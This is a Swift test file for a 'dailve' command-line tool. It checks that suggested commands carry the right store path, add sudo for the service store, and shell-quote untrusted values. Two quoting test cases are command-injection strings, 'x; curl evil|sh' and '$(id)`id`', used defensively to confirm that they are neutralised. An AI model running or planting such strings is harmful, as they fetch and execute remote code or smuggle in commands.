import DailveViewModels
import Testing

/// Commands that pages and sentences suggest.
@Suite struct ProgramCommandsTests {
  @Test(
    arguments: [
      ([], "dailve backups"),
      (["serve", "--store", "/srv/health"], "dailve backups --store /srv/health"),
      (["serve", "--store=/srv/health", "--port", "9000"], "dailve backups --store /srv/health"),
      (["doctor", "--store", "/a", "--store", "/b"], "dailve backups --store /b"),
      (["history", "--store", "/my data/it's"], #"dailve backups --store '/my data/it'\''s'"#),
      (["samples", "--", "--store", "x"], "dailve backups"),
      (["serve", "--store"], "dailve backups"),
    ] as [([String], String)])
  func `a suggested command is for the store in use`(arguments: [String], expected: String) {
    #expect(ProgramCommands(arguments: arguments)("backups") == expected)
  }

  @Test(
    arguments: [
      ("20261122T064512.347Z-5f3a9c10", "20261122T064512.347Z-5f3a9c10"), ("x; curl evil|sh", "'x; curl evil|sh'"),
      ("$(id)`id`\n", "'$(id)`id`\n'"), ("it's", #"'it'\''s'"#), ("", "''"),
    ] as [(String, String)])
  func `text from elsewhere is one word`(value: String, expected: String) {
    #expect(ProgramCommands()("deliveries replay", value) == "dailve deliveries replay \(expected)")
  }

  @Test(
    arguments: [
      (["undo", "3"], "undo --store /xdg/dailve"),
      (["serve", "--store", "data"], "undo --store /home/me/data"),
      (["serve", "--store=data", "--port", "9"], "undo --store /home/me/data"),
      (["serve", "--store", "/srv/health"], "undo --store /srv/health"),
      (["samples", "--", "--store"], "undo --store /xdg/dailve"),
      ([], "undo"),
    ] as [([String], String)])
  func `a command means the same store in another folder and environment`(arguments: [String], expected: String) {
    let commands = ProgramCommands(arguments: arguments, store: "/xdg/dailve") { Self.absolute($0) }
    #expect(commands("undo") == "dailve " + expected)
  }

  private static func absolute(_ path: String) -> String { path.hasPrefix("/") ? path : "/home/me/" + path }

  @Test(
    arguments: [
      (["doctor"], nil, "sudo dailve backups"),
      (["serve", "--store=/var/lib/dailve", "--port", "9"], nil, "sudo dailve backups"),
      (["serve", "--store=/var/lib/dailve", "--store", "own"], nil, "dailve backups --store /home/me/own"),
      (["doctor"], "/etc/other one.conf", "sudo env DAILVE_CONFIGURATION='/etc/other one.conf' dailve backups"),
    ] as [([String], String?, String)])
  func `a command for the store of the service is one of root's`(
    arguments: [String], configuration: String?, expected: String
  ) {
    let commands = ProgramCommands(
      arguments: arguments, store: "/var/lib/dailve",
      service: .init(store: "/var/lib/dailve", configuration: configuration)
    ) { Self.absolute($0) }
    #expect(commands("backups") == expected)
    #expect(commands.isOfService == expected.hasPrefix("sudo"))
    if commands.isOfService { #expect(commands("serve") == ProgramCommands.serviceStart) }
  }

  @Test func `the server is suggested at the port in use`() {
    let commands = ProgramCommands(arguments: ["doctor", "--port", "9000", "--store", "/a", "--json"])
    #expect(commands("serve", carrying: ["--store", "--host", "--port"]) == "dailve serve --store /a --port 9000")
  }
}
